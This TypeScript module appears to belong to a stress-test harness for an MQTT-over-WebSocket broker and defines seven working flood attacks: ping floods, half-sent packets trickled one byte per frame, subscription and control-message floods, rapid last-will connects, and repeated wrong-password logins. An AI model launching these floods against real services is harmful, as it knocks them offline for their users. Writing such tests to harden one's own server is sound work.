/** Attacks with minimal frames, and attacks with expensive operations. */

import { setTimeout as pause } from "node:timers/promises";
import { connectPacket, PINGREQ_FRAME, publishPacket, subscribePacket } from "../bench/generator/mqtt.ts";
import { encodeFrame } from "../bench/generator/websocket.ts";
import { type Attack, login, open, repeatUntilOver, sendEndlessly, type Victim } from "./sockets.ts";

const SOCKETS = ["a", "b", "c", "d"];
const AT_ONCE = 100;

const many = (frame: Buffer): Buffer => Buffer.concat(Array.from({ length: AT_ONCE }, () => frame));

/** Four sockets that reconnect when they are cut off; each sends this, and then `poured` without end. */
const flood =
  (poured: Buffer, first: (victim: Victim, name: string) => Buffer): Attack =>
  async (victim, over) => {
    const one = (name: string) =>
      repeatUntilOver(over, async () => {
        const socket = await open(victim);
        socket.write(first(victim, name));
        await sendEndlessly(socket, many(poured), over);
      });
    await Promise.all(SOCKETS.map(one));
  };

const hello = (victim: Victim, name: string): Buffer => encodeFrame(connectPacket(login(victim, name)));

/** The beginning of a packet that is never completed. */
const begun = (packet: Buffer): Buffer => encodeFrame(packet.subarray(0, 10));

const pings = flood(PINGREQ_FRAME, hello);
const oneByte = flood(encodeFrame(Buffer.from("a")), (victim, name) =>
  Buffer.concat([hello(victim, name), begun(publishPacket(`${victim.userId}/x`, Buffer.alloc(65_000)))]),
);
const halfConnect = flood(encodeFrame(Buffer.from("a")), () =>
  begun(connectPacket({ clientId: "x".repeat(60_000) })),
);

/** A permitted amount for one socket, twenty times a second. */
const steadily =
  (perSecond: number, what: (victim: Victim, count: number) => Buffer): Attack =>
  (victim, over) =>
    repeatUntilOver(over, async () => {
      const socket = await open(victim);
      socket.write(hello(victim, "steady"));
      for (; !over.aborted && !socket.destroyed; await pause(50)) socket.write(what(victim, perSecond / 20));
      socket.destroy();
    });

const filters = steadily(20_000, ({ userId }, count) =>
  encodeFrame(
    subscribePacket(
      Array.from({ length: count }, () => `${userId}/${Math.random()}`),
      0,
    ),
  ),
);

const controls = steadily(400, ({ userId, deviceId }, count) =>
  Buffer.concat(
    Array.from({ length: count }, () =>
      encodeFrame(publishPacket(`${userId}/devices/${deviceId}/control`, Buffer.from('{"state":"on"}'))),
    ),
  ),
);

/** CONNECT with a will at QoS 0, then a cut transport: three hundred a second. */
const wills: Attack = async (victim, over) => {
  for (let n = 0; !over.aborted; n++, await pause(3)) {
    void open(victim).then(
      async (socket) => {
        socket.write(encodeFrame(withWill(victim, `will-${n}`)));
        await pause(300);
        socket.destroy();
      },
      () => undefined,
    );
  }
};

/** The will follows the client id; its flag is in the eighth byte of the body. */
function withWill(victim: Victim, name: string): Buffer {
  const text = (value: string) =>
    Buffer.concat([Buffer.from([value.length >> 8, value.length & 0xff]), Buffer.from(value)]);
  const body = Buffer.concat([
    text("MQTT"),
    Buffer.from([4, 0x06, 0, 0]),
    text(login(victim, name).clientId),
    text(`${victim.userId}/will`),
    text("gone"),
  ]);
  return Buffer.concat([Buffer.from([0x10, (body.length & 0x7f) | 0x80, body.length >> 7]), body]);
}

const wrongConnects: Attack = async (victim, over) => {
  const guess = { clientId: "guess", username: "lamp", password: "guessed" };
  while (!over.aborted) {
    for (let n = 0; n < 5; n++) {
      void open(victim).then(
        (socket) =>
          socket.write(encodeFrame(connectPacket(guess)), () => setTimeout(() => socket.destroy(), 100)),
        () => undefined,
      );
    }
    await pause(50);
  }
};

export const FLOODS: Record<string, Attack> = {
  "pings without end": pings,
  "a packet in frames of one byte": oneByte,
  "half a CONNECT in frames of one byte": halfConnect,
  "20,000 subscriptions a second": filters,
  "control messages at the allowed rate": controls,
  "300 wills a second": wills,
  "100 CONNECTs a second with a wrong password": wrongConnects,
};
